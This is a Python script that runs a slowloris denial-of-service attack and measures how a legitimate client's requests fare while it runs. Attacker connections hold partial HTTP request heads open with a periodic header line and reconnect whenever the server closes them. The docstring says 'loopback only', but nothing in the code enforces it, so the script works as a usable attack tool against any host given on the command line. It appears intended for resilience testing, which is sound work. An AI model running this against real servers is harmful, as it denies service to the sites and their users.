#!/usr/bin/env python3
"""Slowloris from one host, and a legitimate client's requests meanwhile.

Usage: attack.py HOST PORT CONNECTIONS RAMP_SECONDS PROBES PROBE_TIMEOUT_SECONDS

CONNECTIONS attacker connections each send the start of a request head, then one more header line every 10 s,
never ending it; a connection the server closes is opened again at once (as the slowloris tool does). After
RAMP_SECONDS, a client sends PROBES requests one after another, each on a new connection (`GET /` with
`Connection: close`), and waits at most PROBE_TIMEOUT_SECONDS for each whole response. Prints one JSON object:
the probes' latencies in ms (served ones), how many were not served in time or failed, and the attacker's
connections open at the end and reconnects made. Loopback only: bounded in connections and time.
"""
import asyncio
import json
import sys
import time

HEAD_START = b"GET /slow HTTP/1.1\r\nHost: attacked\r\nUser-Agent: slowloris\r\n"


async def attacker(host, port, state, stop):
    while not stop.is_set():
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        state["open"] += 1
        try:
            writer.write(HEAD_START)
            await writer.drain()
            while not stop.is_set():
                try:
                    data = await asyncio.wait_for(reader.read(1), timeout=10)
                    if not data:
                        break  # closed by the server
                except asyncio.TimeoutError:
                    writer.write(b"X-a: b\r\n")
                    await writer.drain()
        except OSError:
            pass
        finally:
            state["open"] -= 1
            writer.close()
        if not stop.is_set():
            state["reconnects"] += 1


async def probe(host, port, timeout):
    started = time.monotonic()
    reader, writer = await asyncio.wait_for(asyncio.open_connection(host, port), timeout)
    try:
        writer.write(b"GET / HTTP/1.1\r\nHost: probe\r\nConnection: close\r\n\r\n")
        await writer.drain()
        left = timeout - (time.monotonic() - started)
        response = await asyncio.wait_for(reader.read(), max(left, 0.001))
        if not response.startswith(b"HTTP/1.1 2"):
            raise OSError("answered " + response[:12].decode("latin-1", "replace"))
        return (time.monotonic() - started) * 1000
    finally:
        writer.close()


async def main():
    host, port = sys.argv[1], int(sys.argv[2])
    connections, ramp, probes, timeout = int(sys.argv[3]), float(sys.argv[4]), int(sys.argv[5]), float(sys.argv[6])
    state = {"open": 0, "reconnects": 0}
    stop = asyncio.Event()
    tasks = [asyncio.create_task(attacker(host, port, state, stop)) for _ in range(connections)]
    await asyncio.sleep(ramp)
    opened_before_probes = state["open"]
    latencies, failed = [], 0
    for _ in range(probes):
        try:
            latencies.append(await probe(host, port, timeout))
        except (OSError, asyncio.TimeoutError):
            failed += 1
    result = {"attacker_open_before_probes": opened_before_probes, "attacker_open_after": state["open"],
              "attacker_reconnects": state["reconnects"], "served": len(latencies), "not_served": failed,
              "latencies_ms": [round(x, 1) for x in latencies]}
    stop.set()
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    print(json.dumps(result))


asyncio.run(main())
